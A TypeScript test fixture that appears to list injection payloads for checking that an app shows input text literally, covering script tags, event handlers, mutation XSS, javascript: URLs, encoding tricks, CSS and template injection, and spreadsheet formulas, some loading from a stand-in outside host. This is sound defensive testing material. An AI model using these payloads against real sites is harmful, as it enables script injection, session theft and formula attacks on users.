/**
 * Texts for input fields that the app must show literally. If one is interpreted as HTML, a URL, CSS, a template or a
 * formula, it calls `ran()` or sends a request to another host. `constructor` is a name that objects already have.
 */
export const payloads: readonly string[] = [
  // Script elements.
  '<script>ran()</script>',
  '<ScRiPt type=module>ran()</sCrIpT>',
  '<script src=//elsewhere.example/1.js></script>',
  '<svg><script>ran()</script></svg>',
  '<script\n>ran()</script\n>',
  // Event handlers of elements that load, fail, open, play or are animated.
  '<img src=x onerror=ran()>',
  "<img/src='x'/onerror='ran()'//",
  '<img src=x\nonerror\n=\nran()>',
  '<svg onload=ran()>',
  '<details open ontoggle=ran()>',
  '<video><source onerror=ran()></video>',
  '<input autofocus onfocus=ran()>',
  '<marquee onstart=ran()>x</marquee>',
  '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=ran()>',
  // SVG and MathML.
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:ran()></svg>',
  '<svg><a xlink:href="javascript:ran()"><text x=9 y=9>x</text></a></svg>',
  `<svg><use href="data:image/svg+xml,%3Csvg id='x' onload='ran()'/%3E#x"/></svg>`,
  '<math href="javascript:ran()">x</math>',
  '<math><mtext><img src=x onerror=ran()></mtext></math>',
  // Frames, plug-ins, and elements that redirect the whole page.
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="data:text/html,<script>parent.ran()</script>"></object>',
  '<embed src=//elsewhere.example/x.swf>',
  '<base href=//elsewhere.example/>',
  '<meta http-equiv=refresh content="0;url=//elsewhere.example/">',
  '<link rel=stylesheet href=//elsewhere.example/x.css>',
  '<form id=f action=javascript:ran()><button>x</button></form>',
  // URLs.
  '<a href=javascript:ran()>x</a>',
  '<a href="&#106;avascript&colon;ran()">x</a>',
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  'java\tscript:ran()',
  '\u0001javascript:ran()',
  'javascript:ran()//https://nordbil.example',
  'javascript://nordbil.example/%0aran()',
  'data:text/html,<script>ran()</script>',
  '//elsewhere.example/x',
  'https://user@elsewhere.example\\@nordbil.example',
  // Payloads that break out of an attribute, an element, or a script's string.
  '"><script>ran()</script>',
  "'><img src=x onerror=ran()>",
  '" autofocus onfocus="ran()" x="',
  '` onmouseover=ran() `',
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</style><img src=x onerror=ran()>',
  '--><img src=x onerror=ran()>',
  "');ran();//",
  '"}];ran();//',
  // Markup that becomes other markup when it is parsed a second time.
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">',
  '<!--><img src=x onerror=ran()>-->',
  '<![CDATA[><img src=x onerror=ran()>]]>',
  '<template shadowrootmode=open><img src=x onerror=ran()></template>',
  // Encoded markup.
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&#60;img src=x onerror=ran()&#62;',
  '&#x3c;svg/onload=ran()&#x3e;',
  '%3Cimg%20src=x%20onerror=ran()%3E',
  '\\u003cimg src=x onerror=ran()\\u003e',
  '＜script＞ran()＜/script＞',
  '+ADw-script+AD4-ran()+ADw-/script+AD4-',
  // Control characters, invisible ones, and those that change the text direction.
  '<scr\u0000ipt>ran()</scr\u0000ipt>',
  '<scr\u200bipt>ran()</scr\u200bipt>',
  '\u202egnp.<img src=x onerror=ran()>',
  '\ufeff<script>ran()</script>',
  // Styles.
  "<style>@import '//elsewhere.example/x.css';</style>",
  '<style>body{background:url(//elsewhere.example/x.png)}</style>',
  '}body{background:url(//elsewhere.example/x.png)}',
  // Templates, and names that objects already have.
  "{{constructor.constructor('ran()')()}}",
  "{{_c.constructor('ran()')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is this literal text
  '${ran()}',
  '<%= ran() %>',
  '<div ng-app ng-csp><p ng-click=$event.view.ran()>',
  'constructor',
  // Spreadsheet formulas.
  '=HYPERLINK("javascript:ran()","x")',
  "=cmd|'/C ran'!A0",
  '@SUM(1)+ran()',
  '+1+ran()',
]

/**
 * Joins consecutive payloads to texts of at most `most` characters, for checks that take long for each text. A longer
 * payload is cut off.
 */
export function joinPayloads(most: number): string[] {
  const packs: string[] = []
  for (const payload of payloads) {
    const last = packs.at(-1)
    if (last !== undefined && last.length + 1 + payload.length <= most)
      packs[packs.length - 1] = `${last} ${payload}`
    else packs.push(payload.slice(0, most))
  }
  return packs
}
